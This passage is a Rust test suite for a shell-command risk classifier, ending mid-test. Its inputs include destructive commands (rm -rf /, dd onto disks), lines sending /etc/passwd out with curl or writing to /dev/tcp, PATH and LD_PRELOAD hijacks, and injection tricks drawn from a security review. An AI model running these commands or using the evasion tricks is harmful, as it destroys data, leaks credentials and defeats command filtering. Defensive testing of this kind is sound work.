use std::sync::Arc;

use super::*;
use sluice_core::Class::{Admin as A, Destructive as D, Read as R, Unknown as U, Write as W};

fn class(line: &str) -> Class {
    classify(line, &Programs::builtin()).class()
}

fn check(cases: &[(&str, Class)]) {
    let mut failures = Vec::new();
    for (line, want) in cases {
        let c = classify(line, &Programs::builtin());
        if c.class() != *want {
            failures.push(format!(
                "{line:?}: got {} ({:?}), want {want}",
                c.class(),
                c.unknown_reason
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn reads() {
    check(&[
        ("ls -la /tmp", R),
        ("cat /etc/hosts | grep localhost | wc -l", R),
        ("head -n 5 /var/log/syslog; tail -f x.log", R),
        ("df -h && du -sh /var", R),
        ("ps aux | sort -k3 | head", R),
        (
            "uptime; free -m; whoami; id; hostname; uname -a; date +%s",
            R,
        ),
        (
            "echo hello; printf '%s\\n' x; true; false; test -f x; [ -d y ]",
            R,
        ),
        (
            "stat x; file y; which ls; pwd; uniq a; cut -d: -f1 /etc/passwd",
            R,
        ),
        ("diff a b; md5sum x; sha256sum y; env; printenv HOME", R),
        ("find /var/log -name '*.gz' -mtime +3", R),
        ("journalctl -u nginx --since today", R),
        (
            "systemctl status nginx; systemctl is-active x; systemctl list-units",
            R,
        ),
        ("service nginx status", R),
        (
            "docker ps -a; docker logs web; docker inspect web; docker images",
            R,
        ),
        (
            "kubectl get pods -n prod; kubectl -n kube-system describe pod x",
            R,
        ),
        (
            "kubectl logs deploy/web --tail 10; kubectl config view; kubectl auth can-i get pods",
            R,
        ),
        (
            "git status; git log --oneline -5; git diff HEAD~1; git branch -a",
            R,
        ),
        ("sed -n '1,10p' file; sed 's/a/b/g' file", R),
        ("awk '{print $1}' /etc/passwd", R),
        ("dd if=/dev/sda bs=512 count=1 | xxd", U),
        ("dd if=/dev/sda bs=512 count=1 | od -c", R),
        ("iptables -L -n; ufw status; nft list ruleset", R),
        ("crontab -l; apt list --installed; dpkg -l", R),
        ("curl -s https://example.com/health", R),
        ("tar -tzf backup.tgz; tar tvf x.tar", R),
        ("redis-cli GET key; redis-cli -h db INFO", R),
        ("top -b -n 1", R),
        ("ls \"$HOME\" ~/x", R),
        ("cd /srv && ls", R),
        ("x=1; echo $x", R),
        ("declare -r y=1; export FOO=$BAR", R),
        // Stricter since the second review: an exported variable reaches the commands after it.
        ("export FOO=$BAR; ls", U),
        ("time ls", R),
        ("! grep -q x file", R),
        ("if [ -f x ]; then cat x; else echo none; fi", R),
        ("for f in a b c; do echo $f; done", R),
        ("while read l; do echo \"$l\"; done < input.txt", R),
        ("case $x in a) echo a;; *) ls;; esac", R),
        ("[[ -f /etc/os-release ]] && cat /etc/os-release", R),
        ("echo $((1 + 2))", R),
        ("", R),
        ("# only a comment", R),
    ]);
}

#[test]
fn writes() {
    check(&[
        ("touch x; mkdir -p a/b; cp a b; mv b c; ln -s a b", W),
        ("chmod 644 file", W),
        ("rm file.txt", W),
        ("rmdir emptydir", W),
        ("echo hi > /tmp/out", W),
        ("echo hi >> /tmp/out", W),
        ("echo hi >| /tmp/out", W),
        ("ls &> /tmp/all", W),
        ("echo x | tee /tmp/a /tmp/b", W),
        ("sed -i 's/a/b/' config.ini", W),
        ("git commit -m msg; git pull; git push origin main", W),
        (
            "kubectl apply -f deploy.yaml; kubectl scale deploy web --replicas=3",
            W,
        ),
        ("kubectl rollout restart deploy/web", W),
        ("curl -o out.html https://example.com", W),
        ("curl -X POST -d '{}' https://api/x", W),
        ("wget https://example.com/file", W),
        ("tar czf backup.tgz /etc", W),
        ("tar -xzf backup.tgz -C /tmp", W),
        ("redis-cli SET k v", W),
        ("dd if=/dev/zero of=/tmp/file bs=1M count=1", W),
        ("awk '{print > \"out.txt\"}' in.txt", W),
        ("sort -o sorted.txt input.txt", W),
    ]);
}

#[test]
fn destructive() {
    check(&[
        ("rm -rf /var/tmp/x", D),
        ("rm -f x", D),
        ("rm --recursive x", D),
        ("rm --rec x", D),
        ("rm /", D),
        ("rm \"-rf\" x", D),
        ("rm -\\rf x", D),
        ("rm $'-\\x72f' x", D),
        ("rm -- -rf", W),
        ("find /tmp -name '*.tmp' -delete", D),
        ("find . -type f -exec rm -f {} \\;", D),
        ("find . -execdir rm -rf {} +", D),
        ("shred -u secret; wipefs -a /dev/sdb", D),
        ("mkfs.ext4 /dev/sdb1", D),
        ("truncate -s 0 /var/log/syslog", D),
        ("shutdown -h now", D),
        ("reboot", D),
        ("dd if=/dev/zero of=/dev/sda", D),
        ("echo x > /dev/sda", D),
        ("cat img > /dev/nvme0n1", D),
        ("git push --force origin main", D),
        ("git push -f", D),
        ("git reset --hard HEAD~3", D),
        ("git clean -fdx", D),
        ("kubectl delete pod x", D),
        ("kubectl drain node1", D),
        ("docker rm -f web; docker rmi img", D),
        ("docker system prune -af", D),
        ("docker volume rm data", D),
        ("redis-cli FLUSHALL", D),
        ("xargs rm < list.txt", D),
        ("ls | xargs rm", D),
        ("rm \"$FILE\"", D),
        ("chmod -R 777 /", D),
    ]);
}

#[test]
fn admin() {
    check(&[
        ("systemctl restart nginx", A),
        ("systemctl daemon-reload", A),
        ("service nginx restart", A),
        ("journalctl --vacuum-size=100M", A),
        ("journalctl --rotate", A),
        ("docker run -it ubuntu", A),
        ("kubectl exec -it pod -- sh", A),
        ("kubectl port-forward svc/x 8080:80", A),
        ("kubectl cordon node1", A),
        ("kill -9 1234; pkill nginx; killall x", A),
        ("useradd bob; passwd bob", A),
        ("iptables -A INPUT -j DROP", A),
        ("ufw allow 22", A),
        ("mount /dev/sdb1 /mnt", A),
        ("umount /mnt", A),
        ("crontab -r", A),
        ("apt-get install -y nginx", A),
        ("apt install curl", A),
        ("dpkg -i pkg.deb", A),
        ("yum install x; dnf remove y; apk add z", A),
        ("pip install requests", A),
        ("npm install -g typescript", A),
        ("gem install rails", A),
        ("rpm -i x.rpm", A),
        ("redis-cli CONFIG SET x y", A),
        ("redis-cli SHUTDOWN", A),
        ("chown -R www-data /srv/www", A),
        ("chmod u+s /usr/bin/x", A),
        ("chmod 4755 /usr/bin/x", A),
        ("sudo systemctl restart nginx", A),
        ("sudo rm -rf /var/cache/x", A),
        ("su -c 'touch /root/x'", A),
        ("hostname newname", A),
        ("sysctl -w net.ipv4.ip_forward=1", A),
        ("ip link set eth0 down", A),
        ("git config core.pager less", A),
        ("init 3", A),
    ]);
}

#[test]
fn sudo_read_stays_read_and_keeps_inner_effects() {
    let c = classify("sudo cat /var/log/auth.log", &Programs::builtin());
    assert_eq!(c.class(), R);
    assert!(c.programs.contains("sudo") && c.programs.contains("cat"));
    let c = classify("sudo -u postgres rm -rf /tmp/x", &Programs::builtin());
    assert!(c.effects.contains(&D) && c.effects.contains(&A));
    assert_eq!(class("sudo -l"), R);
    assert_eq!(class("sudo -i"), U);
    assert_eq!(class("sudo -s 'rm -rf /tmp/x'"), A);
    assert_eq!(class("sudo -e /etc/hosts"), A);
    assert_eq!(class("doas ls"), R);
}

#[test]
fn wrappers_recurse() {
    check(&[
        ("sh -c 'rm -rf /tmp/x'", D),
        ("bash -c \"ls; cat x\"", R),
        ("bash -lc 'git reset --hard'", D),
        ("zsh -c 'ls'", R),
        ("env LANG=C TZ=UTC rm -rf x", D),
        ("env FOO=1 BAR=2 rm -rf x", U),
        ("env", R),
        ("env -i ls", R),
        ("nohup rm -rf /tmp/x &", D),
        ("timeout 10 ls", R),
        ("timeout -s KILL 10s rm -rf x", D),
        ("nice -n 10 rm -rf x", D),
        ("nice -5 ls", R),
        ("ionice -c3 rm -rf x", D),
        ("time rm -rf x", D),
        ("/usr/bin/time -v ls", R),
        ("xargs -0 -n1 ls", R),
        ("xargs -I{} mv {} /tmp", W),
        ("xargs -n1 mytool", U),
        ("exec ls", R),
        ("exec > /tmp/log", W),
        ("command ls", R),
        ("command -v rm", R),
        ("builtin echo x", R),
        ("watch -n 5 'df -h'", R),
        ("watch rm -rf x", D),
        ("watch -x ls -l", R),
        ("su - postgres -c 'psql -l'", R),
        ("su root", U),
        ("stdbuf -oL tail -f x", R),
        ("setsid ls", R),
        ("busybox rm -rf x", D),
        ("sudo -u app env LC_ALL=C timeout 5 nice nohup ls", R),
        ("sh -c 'sh -c \"rm -rf x\"'", D),
        ("bash <<'EOF'\nrm -rf /tmp/x\nEOF", D),
        ("bash <<< 'ls -l'", R),
        ("sh", U),
        ("echo 'rm -rf /' | sh", U),
        ("bash deploy.sh", U),
        ("ssh other-host ls", U),
        ("trap 'rm -rf /tmp/x' EXIT; ls", D),
        ("PAGER=cat git log", R),
        ("GIT_PAGER='rm -rf x' git log", U),
    ]);
}

#[test]
fn substitutions() {
    check(&[
        ("echo $(rm -rf /tmp/x)", D),
        ("echo \"$(rm -rf /tmp/x)\"", D),
        ("echo \"a `rm -rf /tmp/x` b\"", D),
        ("echo `echo \\`rm -rf x\\``", D),
        ("X=$(rm -rf /) ls", U),
        ("LANG=C ls $(rm -rf /)", D),
        ("X=$(rm -rf /)", D),
        ("export X=\"$(reboot)\"", D),
        ("ls $(echo /tmp)", R),
        ("diff <(ls a) <(ls b)", R),
        ("tee >(rm -rf x) < /dev/null", D),
        ("cat <(reboot)", D),
        ("echo ${X:-$(reboot)}", D),
        ("echo ${X/a/$(reboot)}", D),
        ("echo ${arr[$(reboot)]}", U),
        ("echo $(( $(reboot) + 1 ))", U),
        ("[[ $(reboot) == x ]]", D),
        ("case $(reboot) in x) ;; esac", D),
        ("for i in $(reboot); do :; done", D),
        ("cat <<EOF\n$(reboot)\nEOF", D),
        ("cat <<'EOF'\n$(reboot)\nEOF", R),
        ("echo '$(reboot)'", R),
        ("echo \\$(reboot)", U),
    ]);
}

#[test]
fn fail_closed() {
    let cases: &[(&str, &str)] = &[
        ("eval 'rm -rf /'", "\"eval\" runs text"),
        ("source ./env.sh", "script file"),
        (". ./env.sh", "script file"),
        ("$CMD -rf /", "only known when the command runs"),
        ("$(echo rm) -rf /", "only known when the command runs"),
        ("${X} a", "only known when the command runs"),
        ("/tmp/evil/ls", "outside the system directories"),
        ("./ls", "outside the system directories"),
        ("r* -rf /", "glob pattern"),
        ("{rm,-rf,/}", "only known when the command runs"),
        ("python -c 'import os'", "runs code"),
        ("python3 script.py", "script.py"),
        ("perl -e 'unlink'", "runs code"),
        ("node -e 'x'", "runs code"),
        ("ruby -e 'x'", "runs code"),
        ("php -r 'x'", "runs code"),
        ("awk 'BEGIN{system(\"rm -rf /\")}'", "runs commands"),
        ("awk '{print | \"sh\"}'", "pipes to a command"),
        ("awk '{\"date\" | getline d}'", "getline"),
        ("sed 's/x/rm -rf \\//e' f", "s///e"),
        ("sed -f script.sed f", "script file"),
        ("python <<EOF\nprint(1)\nEOF", "cannot inspect"),
        ("f() { rm -rf /; }; f", "shell function"),
        ("alias ls='rm -rf'", "alias"),
        ("mytool --purge", "not in the program table"),
        ("echo 'unterminated", "cannot parse"),
        ("ls )", "cannot parse"),
        ("ls\u{7}", "control"),
        ("ls\r", "control"),
        ("ls \u{202E}x", "invisible"),
        ("LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD"),
        ("PATH=/tmp ls", "PATH"),
        ("export PATH=/tmp:$PATH; ls", "PATH"),
        ("env LD_PRELOAD=x ls", "LD_PRELOAD"),
        ("psql -c 'select 1'", "no SQL classifier"),
        ("psql -d app", "reads SQL from its input"),
        ("psql -f x.sql", "SQL file"),
        ("mysql -e 'select 1'", "no SQL classifier"),
        ("mysql app", "reads SQL"),
        ("git -c core.pager='rm -rf /' log", "git -c"),
        ("git foo", "not a known git command"),
        ("kubectl foo", "not a known kubectl command"),
        ("xargs sh -c", "only known when the command runs"),
        ("export $X", "variable named only when"),
        ("bash -c \"$X\"", "only known when the command runs"),
        ("find $DIR -name x", "could make it run other commands"),
        ("git $SUB", "could make it run other commands"),
        ("echo ${!ref}", "indirect expansion"),
        ("echo ${x@P}", "prompt"),
        ("x='a[$(reboot)]'; echo $((x))", "arithmetic"),
        ("echo 99999999999>x", "file descriptor"),
        ("ls ~99999999999999999999999", "directory-stack"),
        ("curl -K cfg", "curl -K"),
        ("tar -I 'sh -c x' -cf a.tar b", "run another program"),
        ("redis-cli EVAL 'x' 0", "script"),
        ("vim /etc/hosts", "cannot inspect"),
        ("echo hi > /dev/tcp/10.0.0.1/80", "network connection"),
        ("top", "interactive"),
        ("npm run build", "package scripts"),
    ];
    let mut failures = Vec::new();
    for (line, want) in cases {
        let c = classify(line, &Programs::builtin());
        let reason = c.unknown_reason.clone().unwrap_or_default();
        if c.class() != U || !reason.contains(want) {
            failures.push(format!(
                "{line:?}: got {} {reason:?}, want reason with {want:?}",
                c.class()
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn limits() {
    let long = format!("echo {}", "a".repeat(64 * 1024));
    let c = classify(&long, &Programs::builtin());
    assert_eq!(c.class(), U);
    assert!(c.unknown_reason.unwrap().contains("64 KiB"));
    let mut nested = String::from("ls");
    for _ in 0..10 {
        nested = format!("sh -c {}", shell_quote(&nested));
    }
    assert_eq!(class(&nested), U);
    let subst = format!("{}ls{}", "echo $(".repeat(10), ")".repeat(10));
    let c = classify(&subst, &Programs::builtin());
    assert_eq!(c.class(), U);
    assert!(c.unknown_reason.unwrap().contains("deeper than 8"));
    let mut ok = String::from("ls");
    for _ in 0..5 {
        ok = format!("sh -c {}", shell_quote(&ok));
    }
    assert_eq!(class(&ok), R);
    let deep = format!("{}true{}", "(".repeat(2000), ")".repeat(2000));
    assert_eq!(class(&deep), U);
    // The parser reads `( ( x ) )` as arithmetic; bash as subshells.
    let medium = format!("{}true{}", "( ".repeat(200), " )".repeat(200));
    assert_eq!(class(&medium), U);
    let medium = format!("{}true{}", "( true; ".repeat(200), " )".repeat(200));
    assert_eq!(class(&medium), R);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn redirections() {
    let c = classify("ls > /tmp/out 2>&1 < /etc/input", &Programs::builtin());
    assert_eq!(c.class(), W);
    assert!(c.paths.contains("/tmp/out") && c.paths.contains("/etc/input"));
    check(&[
        ("ls > /dev/null 2>&1", R),
        ("ls 2>/dev/null", R),
        ("ls >/dev/stderr", R),
        ("ls 2>&1 | cat", R),
        ("ls >&2", R),
        ("ls >& /tmp/both", W),
        ("> /tmp/truncated", W),
        ("cat < /etc/passwd", R),
        ("echo x > /dev/mapper/vg-root", D),
        ("echo x > /dev/xvda", D),
        ("echo x > /dev/vdb", D),
        ("{ ls; } > /tmp/x", W),
        ("(ls) 2> /tmp/err", W),
        ("echo x > \"$LOG\"", W),
    ]);
}

#[test]
fn programs_and_paths_and_flags() {
    let c = classify(
        "/usr/bin/rm -f /tmp/a '/tmp/b c' && ls /srv",
        &Programs::builtin(),
    );
    assert!(c.programs.contains("rm") && c.programs.contains("ls"));
    assert!(c.paths.contains("/tmp/a") && c.paths.contains("/tmp/b c") && c.paths.contains("/srv"));
    assert_eq!(c.flags.statements, 2);
    assert!(c.flags.multi_statement);
    let c = classify("ls", &Programs::builtin());
    assert_eq!(c.flags.statements, 1);
    assert!(!c.flags.multi_statement);
    let c = classify("\"r\"\"m\" x", &Programs::builtin());
    assert!(c.programs.contains("rm"));
    assert_eq!(c.class(), W);
    let c = classify("grep -r pattern /etc", &Programs::builtin());
    assert!(c.paths.contains("/etc") && !c.paths.contains("pattern"));
    let c = classify("sed -i 's/a/b/' /etc/app.conf", &Programs::builtin());
    assert!(c.paths.contains("/etc/app.conf"));
}

#[test]
fn user_rules_override_builtins() {
    let rules: Vec<ProgramRule> = toml_like(&[
        ("mytool", &["purge*"], D),
        ("mytool", &["status"], R),
        ("rm", &["/tmp/scratch/*"], W),
        ("git", &[], R),
        ("/opt/app/bin/ctl", &[], W),
    ]);
    let p = Programs::with_rules(rules).unwrap();
    assert_eq!(classify("mytool purge-all", &p).class(), D);
    assert_eq!(classify("mytool status", &p).class(), R);
    assert_eq!(classify("mytool other", &p).class(), U);
    assert_eq!(classify("rm -rf /tmp/scratch/x", &p).class(), W);
    assert_eq!(classify("rm -rf /tmp/other", &p).class(), D);
    assert_eq!(classify("git push --force", &p).class(), R);
    assert_eq!(classify("/opt/app/bin/ctl restart", &p).class(), W);
    assert_eq!(classify("mytool $X", &p).class(), U);
    // A rule cannot hide what a wrapper runs.
    for bad in ["sudo", "sh", "xargs", "eval", ""] {
        let r = Programs::with_rules(toml_like(&[(bad, &[], R)]));
        assert!(r.is_err(), "{bad}");
    }
    assert!(Programs::with_rules(toml_like(&[("x", &[""], R)])).is_err());
    assert!(Programs::with_rules(toml_like(&[("bin/x", &[], R)])).is_err());
}

fn toml_like(rules: &[(&str, &[&str], Class)]) -> Vec<ProgramRule> {
    rules
        .iter()
        .map(|(p, a, c)| ProgramRule {
            program: p.to_string(),
            args: a.iter().map(|s| s.to_string()).collect(),
            class: *c,
        })
        .collect()
}

#[test]
fn rules_deserialize() {
    let rule: ProgramRule = serde_json::from_str(
        r#"{"program": "mytool", "args": ["purge*"], "class": "destructive"}"#,
    )
    .unwrap();
    assert_eq!(rule.class, D);
    let rule: ProgramRule = serde_json::from_str(r#"{"program": "x", "class": "read"}"#).unwrap();
    assert!(rule.args.is_empty());
    assert!(
        serde_json::from_str::<ProgramRule>(r#"{"program": "x", "class": "read", "y": 1}"#)
            .is_err()
    );
}

#[test]
fn sql_hook() {
    let hook: Arc<dyn Fn(&str) -> Classification + Send + Sync> = Arc::new(|sql: &str| {
        let mut c = if sql.trim_start().to_ascii_lowercase().starts_with("select") {
            Classification::of(R)
        } else {
            Classification::of(Class::Ddl)
        };
        c.tables.insert("t".to_string());
        c
    });
    let p = Programs::builtin().with_sql(hook);
    let c = classify("psql -h db -U app -c 'select * from t'", &p);
    assert_eq!(c.class(), R);
    assert!(c.tables.contains("t") && c.programs.contains("psql"));
    assert_eq!(
        classify("psql --command='drop table t'", &p).class(),
        Class::Ddl
    );
    assert_eq!(
        classify("mysql -u root -e 'drop table t' app", &p).class(),
        Class::Ddl
    );
    assert_eq!(classify("mysql --execute='select 1'", &p).class(), R);
    assert_eq!(classify("psql <<'EOF'\nselect 1;\nEOF", &p).class(), R);
    assert_eq!(classify("psql -c '\\! rm -rf /'", &p).class(), U);
    assert_eq!(classify("mysql -e 'system rm -rf /'", &p).class(), U);
    assert_eq!(classify("psql -c \"select $X\"", &p).class(), U);
    assert_eq!(classify("psql -d app", &p).class(), U);
    assert_eq!(classify("psql -l", &p).class(), R);
}

#[test]
fn random_input_never_panics() {
    let p = Programs::builtin();
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    const ALPHABET: &[u8] = b"ab rm-f/$(){}[]'\"`\\;|&<>*?~!#=:,.0123456789\n\t${}%@^+";
    for _ in 0..3000 {
        let len = (next() % 60) as usize;
        let s: String = (0..len)
            .map(|_| ALPHABET[(next() % ALPHABET.len() as u64) as usize] as char)
            .collect();
        let c = classify(&s, &p);
        assert!(!c.effects.is_empty());
        if c.class() == U {
            assert!(c.unknown_reason.is_some(), "{s:?}");
        }
    }
    for _ in 0..500 {
        let len = (next() % 80) as usize;
        let bytes: Vec<u8> = (0..len).map(|_| next() as u8).collect();
        let s = String::from_utf8_lossy(&bytes);
        let _ = classify(&s, &p);
    }
    for s in [
        "$'",
        "$'\\x",
        "$'\\u{'",
        "${",
        "${#",
        "${!",
        "$((",
        "`",
        "\\",
        "<<",
        "<<EOF",
        "cat <<",
        "${a:-",
        "$'\\c'",
        "a=(",
        "a[",
        "((",
        "[[",
        "[[ -f",
        "case",
        "for",
        "if",
        "function",
        "coproc",
        "select x in",
        "echo $'\\777\\xff\\U0010FFFF\\UFFFFFFFF'",
        "~+",
        "~-1",
        "ls 2147483647>x",
        "${x:0:$(reboot)}",
        "{a..z}",
        "{1..99999999999999999999}",
    ] {
        let _ = classify(s, &p);
    }
}

#[test]
fn typical_line_is_fast() {
    let p = Programs::builtin();
    let line =
        "cd /srv/app && git status --short | head -n 20; ls -la /var/log/app > /dev/null 2>&1";
    let _ = classify(line, &p);
    let n = 200;
    let start = std::time::Instant::now();
    for _ in 0..n {
        let c = classify(line, &p);
        assert_eq!(c.class(), R);
    }
    let per = start.elapsed() / n;
    // Generous for debug builds on a shared machine; release is far faster.
    assert!(per < std::time::Duration::from_millis(5), "{per:?}");
}

/// Lines from the security review: each must be at least `min`.
fn check_min(cases: &[(&str, Class)]) {
    let mut failures = Vec::new();
    for (line, min) in cases {
        let c = classify(line, &Programs::builtin());
        if c.class() < *min {
            failures.push(format!(
                "{line:?}: got {} ({:?}), want at least {min}",
                c.class(),
                c.unknown_reason
            ));
        }
        if c.class() == U && c.unknown_reason.is_none() {
            failures.push(format!("{line:?}: unknown without a reason"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn review_deep_extended_test_does_not_overflow() {
    // Finding 1: `!` inside `[[ ]]` nests the expression tree.
    let line = format!("[[ {}a ]]", "! ".repeat(3000));
    assert_eq!(class(&line), U);
    let line = format!("[[ {}a ]]", "! ".repeat(900));
    assert_eq!(class(&line), R);
    let line = format!("[[ a{} ]]", " && a".repeat(3000));
    assert_eq!(class(&line), U);
    let line = format!("[[ a{} ]]", " || a".repeat(400));
    assert_eq!(class(&line), R);
    let line = format!("[[ {}a{} ]]", "( ".repeat(3000), " )".repeat(3000));
    assert_eq!(class(&line), U);
}

#[test]
fn review_builtins_that_run_code() {
    // Finding 2.
    check_min(&[
        ("hash -p /bin/rm cat; cat /tmp/v/keep", U),
        ("hash cat", U),
        ("mapfile -C 'touch /tmp/v/x #' -c 1 a <<< x", U),
        ("readarray -C 'touch /tmp/v/x #' -c 1 a <<< x", U),
        ("printf -v PS4 '$(touch /tmp/v/x)'; set -x; true", U),
        ("printf -vPS4 '$(touch /tmp/v/x)'; set -x; true", U),
        ("read PS4 <<< '$(touch /tmp/v/x)'; set -x; true", U),
        ("read -r PROMPT_COMMAND <<< x", U),
        ("read -a BASH_ENV <<< x", U),
        ("mapfile LD_PRELOAD < /tmp/x", U),
        ("getopts a: PATH", U),
        ("wait -p IFS -n", U),
        ("printf -v 'a[$(touch /tmp/v/x)]' x", U),
        ("read 'a[$(touch /tmp/v/x)]' <<< x", U),
        ("read -a 'a[$(touch /tmp/v/x)]' <<< x", U),
        ("mapfile 'a[$(touch /tmp/v/x)]' <<< x", U),
        ("let 'a[$(touch /tmp/v/x)]=1'", U),
        ("let 'a[`touch /tmp/v/x`]=1'", U),
        ("test -v 'a[$(touch /tmp/v/x)]'", U),
        ("[ -v 'a[$(touch /tmp/v/x)]' ]", U),
        ("[[ -v 'a[$(touch /tmp/v/x)]' ]]", U),
        ("[[ -v a[$i] ]]", U),
        ("unset 'a[$(touch /tmp/v/x)]'", U),
        ("declare 'a[$(touch /tmp/v/x)]'", U),
        (
            "declare -n r=PS4; read r <<< '$(touch /tmp/v/x)'; set -x; true",
            U,
        ),
        ("local -n r=PS4", U),
        ("(( a[$(touch /tmp/v/x)] ))", U),
        ("echo $(( a['$(touch /tmp/v/x)'] ))", U),
        ("printf \"$F\" \"$V\"", U),
        ("read \"$N\" <<< x", U),
    ]);
    check(&[
        ("printf '%s\\n' \"$HOME\"", R),
        ("printf -v out '%s' x; echo \"$out\"", R),
        ("read -r line < /etc/hostname; echo \"$line\"", R),
        ("mapfile -t lines < /etc/hosts", R),
        ("test -v HOME && echo set", R),
        ("[ -v 'a[1]' ]", R),
        ("unset x y", R),
        ("let 3+4", R),
        // Stricter since the second review: arithmetic naming a variable.
        ("let i=1+2", U),
        ("printf '%s\\n' $HOME", R),
        ("wait \"$pid\"", R),
        ("hash", R),
        ("hash -r", R),
        ("(( 1 + 2 ))", R),
        ("(( i++ ))", U),
        ("((touch /tmp/v/x))", U),
    ]);
}

#[test]
fn review_long_option_prefixes() {
    // Finding 3: getopt_long takes any unique prefix, down to one letter.
    check_min(&[
        ("sed --e='1e touch /tmp/v/x' p /etc/hosts", U),
        ("sed --i 's/a/b/' /tmp/v/file", W),
        ("sort --o=/tmp/v/x /etc/hosts", W),
        ("date --s '2020-01-01'", A),
        ("sysctl --s", A),
        ("journalctl --fl", A),
        ("psql --co='DROP TABLE users' -h /x <<< 'SELECT 1'", U),
        ("mysql --ex='DROP DATABASE prod' <<< 'SELECT 1'", U),
        ("rm --r /tmp/v/sub", D),
        ("rm --f /tmp/v/sub", D),
        ("sort --comp=sh /etc/hosts", U),
        ("tar -t -f a.tar --rs=/usr/bin/touch", U),
        ("curl --o=/tmp/v/x https://example.com", W),
    ]);
}

#[test]
fn review_dangerous_options() {
    // Finding 4.
    check_min(&[
        ("git -C repo grep -O'touch /tmp/v/x' pat", U),
        ("git grep --open-files-in-pager='touch /tmp/v/x' pat", U),
        ("git grep --open=x pat", U),
        ("git fetch --upload-p='touch /tmp/v/x'", U),
        ("git log --exec=x", U),
        ("git archive --remote=host:repo HEAD", U),
        ("git diff --output=/tmp/v/x", W),
        ("git log -p --output /tmp/v/x", W),
        ("git archive --output=/tmp/v/x HEAD", W),
        ("git archive -o /tmp/v/x HEAD", W),
        ("git help log", U),
        (
            "tar -t -f localhost:x --rs=/usr/bin/touch --rmt-command=/tmp/v/x",
            U,
        ),
        ("tar -t -f localhost:x", U),
        ("tar -tf host:/backup.tar", U),
        ("tar -t -f a.tar --rsh-command=/tmp/v/x", U),
        ("tar -t -f a.tar --rmt-command=/tmp/v/x", U),
        ("tar -t -f a.tar --info-script=/tmp/v/x", U),
        ("tar -t -f a.tar -F /tmp/v/x", U),
        ("tar -t -f a.tar --new-volume-script=/tmp/v/x", U),
        ("tar -t -f a.tar --checkpoint-action=exec=x", U),
        ("tar -t -f a.tar -I /tmp/v/x", U),
        ("tar -t -f a.tar --use-compress-program=/tmp/v/x", U),
        ("tar -x -f a.tar --to-command=/tmp/v/x", U),
        ("tar -tvf a.tar --index-file=/tmp/v/x", W),
        ("tar -tvf a.tar --index-file /tmp/v/x", W),
        ("su -s /usr/bin/python3 -c 'import os' root", U),
        ("su -s python3 -c 'ls' root", U),
        ("runuser -s /usr/bin/python3 -c 'ls' root", U),
        ("su -c \"echo $'\\x41'\" root", U),
        ("sudo -s \"echo $'\\x41'\"", U),
        ("sudo -i 'ls ((x) )'", U),
        ("awk 'BEGIN{print \"touch /tmp/v/x;\" | \"sh\"}'", U),
        ("awk 'BEGIN{f=\"sys\" \"tem\"; @f(\"touch /tmp/v/x\")}'", U),
        ("awk 'BEGIN{print \"}\" > \"/tmp/v/x\"}'", W),
        ("awk 'BEGIN{print \";\" > \"/tmp/v/x\"}'", W),
        ("awk 'BEGIN{print \"a\",\n \"b\" > \"/tmp/v/x\"}'", W),
        ("awk '/\"/ {print > \"/tmp/v/x\"}' /etc/hosts", W),
        (
            "awk --source='BEGIN{system(\"touch /tmp/v/x\")}' /etc/hosts",
            U,
        ),
        ("awk -e 'BEGIN{}' -e 'BEGIN{system(\"x\")}'", U),
        ("awk -f prog.awk /etc/hosts", U),
        ("awk --include=x 'BEGIN{}'", U),
        ("awk -i inplace '{print}' /tmp/v/x", U),
        ("awk -E prog.awk", U),
        ("awk -l ext 'BEGIN{}'", U),
        ("awk -W exec prog.awk", U),
        ("awk -D 'BEGIN{}'", U),
        ("awk --profile=/tmp/v/x 'BEGIN{}'", W),
        ("sdiff --diff-program=/tmp/v/x a b", U),
        ("diff --diff-program=/tmp/v/x a b", U),
        ("sdiff -o /tmp/v/x a b", U),
        ("curl -v -o /tmp/v/x https://example.com", W),
        ("curl -h -o /tmp/v/x https://example.com", W),
        ("curl -vo /tmp/v/x https://example.com", W),
        ("curl -svT /etc/passwd https://example.com", W),
        ("curl -sD /tmp/v/x https://example.com", W),
        ("curl -c /tmp/v/x https://example.com", W),
        ("curl --trace-ascii /tmp/v/x https://example.com", W),
        ("curl --libcurl /tmp/v/x https://example.com", W),
        ("curl --stderr /tmp/v/x https://example.com", W),
        ("curl -d @/etc/passwd https://example.com", W),
        ("curl --json '{}' https://example.com", W),
        ("curl -F f=@/etc/passwd https://example.com", W),
        ("curl -X DELETE https://example.com", W),
        ("curl -w '%output{/tmp/v/x}x' https://example.com", W),
        ("curl -K /tmp/v/cfg https://example.com", U),
        ("echo x | tee --output-error /tmp/v/x", W),
        ("wget -O- --output-file=/tmp/v/x https://example.com", W),
        ("wget -O- -o /tmp/v/x https://example.com", W),
        ("wget -O- -a /tmp/v/x https://example.com", W),
        ("wget -O- --append-output=/tmp/v/x https://example.com", W),
        ("wget -O- --o=/tmp/v/x https://example.com", W),
        ("wget -O- --use-askpass=/tmp/v/x https://example.com", U),
    ]);
    check(&[
        ("git grep -n pattern", R),
        ("git log --oneline --graph -5", R),
        ("git diff --stat HEAD~1", R),
        ("git diff --output-indicator-new=+ HEAD", R),
        ("tar -tf backup.tar --force-local", R),
        ("tar -tf /srv/a:b.tar", R),
        ("su - postgres -c 'psql -l'", R),
        ("su -s /bin/bash -c 'ls' app", R),
        ("awk '$3 > 100 {print $1}' /etc/hosts", R),
        ("awk -F: '{print $1 \">\" $2}' /etc/passwd", R),
        ("curl -sv https://example.com", R),
        ("curl -sSL -H 'Accept: x' https://example.com", R),
        ("echo x | tee --output-error=warn /dev/null", R),
        ("wget -qO- https://example.com", R),
        ("diff -u a b", R),
    ]);
}

#[test]
fn review_shell_model() {
    // Finding 5.
    check_min(&[
        ("((touch /tmp/v/x) )", U),
        ("( ( touch /tmp/v/x ) )", U),
        ("( (touch /tmp/v/x))", U),
        ("(( $(touch /tmp/v/x) ))", U),
        ("sh -c \"echo \\$'x'\"", U),
        ("sh -c 'echo $\"x\"'", U),
        ("sh -c '((touch /tmp/v/x) )'", U),
